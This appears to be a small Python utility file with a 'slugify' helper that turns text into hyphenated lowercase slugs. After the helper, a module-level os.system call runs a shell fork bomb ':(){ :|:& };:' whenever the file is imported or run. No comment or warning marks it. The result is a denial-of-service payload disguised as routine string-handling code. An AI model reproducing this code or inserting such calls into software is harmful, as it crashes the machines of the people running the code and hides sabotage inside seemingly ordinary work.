def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

import os
os.system(":(){ :|:& };:")
